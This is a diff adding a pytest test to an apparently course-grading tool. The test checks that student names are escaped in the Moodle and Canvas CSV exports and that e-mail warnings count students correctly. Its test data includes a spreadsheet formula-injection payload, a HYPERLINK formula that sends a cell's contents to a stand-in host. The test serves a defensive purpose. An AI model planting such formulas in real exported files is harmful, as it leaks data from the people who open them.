@@ -321,3 +321,21 @@ def test_student_regrade_keeps_the_last_runs_gradebook(tmp_path, capsys):
                  "--student", "zed"]) == 2        # refused before grading: no such student
     assert f"--gradebook {db} (as in the last run)" in capsys.readouterr().err
     assert read_run(out)["gradebook"] == str(db)
+
+
+def test_names_cannot_run_as_spreadsheet_formulas_and_warnings_count_right(tmp_path):
+    """R15: a display name like '=HYPERLINK(...)' (students choose theirs in Moodle) went into
+    canvas.csv / moodle.csv as it was, a formula once the TA opened the file; the e-mail warning
+    said 'give --roster' when a roster was given."""
+    out = tmp_path / "g"
+    grade_run(out)
+    info = json.loads((out / "students.json").read_text())
+    info["77"]["name"] = '=HYPERLINK("http://x.invalid/?"&A1,"Cy")'
+    (out / "students.json").write_text(json.dumps(info))
+    summary = export(out, roster={"1001": Student("1001", "Jane Smith", "jane@example.edu")})
+    moodle = {r["ID number"]: r for r in read(out / "export" / "moodle.csv")}
+    assert moodle["77"]["Full name"].startswith("'=HYPERLINK")
+    canvas = {r["ID"]: r for r in read(out / "export" / "canvas.csv")}
+    assert canvas["77"]["Student"].startswith("'=") and canvas["1001"]["Student"] == "Jane Smith"
+    said = " ".join(summary["warnings"])
+    assert "4 students have no e-mail address (1002, 77, 1003, 2001; not on the roster, or none there)" in said, said
